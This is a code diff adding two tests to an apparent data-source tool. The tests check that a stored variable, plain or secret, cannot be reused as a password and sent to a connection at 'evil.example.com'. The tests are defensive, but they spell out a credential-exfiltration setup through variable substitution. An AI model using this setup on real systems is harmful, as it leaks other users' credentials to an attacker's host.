@@ -206,3 +206,26 @@ def with_variables_of_you(project: Project) -> None:
     with_source(project, "corp1", **MYSQL, host="${DB_HOST}", password="${PW}")
     for name, value in (("DB_HOST", "db.example.com"), ("PW", "mine")):
         variables_page("you", project, name, value)
+
+
+class TestAVariableThatChangesItsUse:
+    """One that is used for a plain setting while its value is typed, and for a password when it is sent."""
+
+    def test_a_plain_one_is_put_in_the_place_of_a_password(self, team: Project, attempts: list[dict[str, Any]]) -> None:
+        name = "DB_CRED"
+        with_source(team, "corp1", **MYSQL | {"database": f"${{{name}}}"}, host="db.example.com", password="x")
+        variables_page("alice", team, name, "alices")
+        assert variables.known(team, "development").plain == {name}
+        with_source(team, "corp1", **MYSQL, host="evil.example.com", password=f"${{{name}}}")
+        assert f"Type the value of {name}" in tried("bob", team, "corp1", **{"s-password-variable": name})
+        assert attempts == []
+
+    def test_a_secret_does_not_become_plain(self, team: Project, attempts: list[dict[str, Any]]) -> None:
+        name = "DB_CRED"
+        with_source(team, "corp1", **MYSQL, host="db.example.com", password=f"${{{name}}}")
+        variables_page("alice", team, name, "old")
+        with_source(team, "corp1", **MYSQL | {"database": f"${{{name}}}"}, host="db.example.com", password="x")
+        variables_page("alice", team, name, "alices")
+        with_source(team, "corp1", **MYSQL | {"database": f"${{{name}}}"}, host="evil.example.com", password="x")
+        assert f"Type the value of {name}" in tried("bob", team, "corp1")
+        assert attempts == []
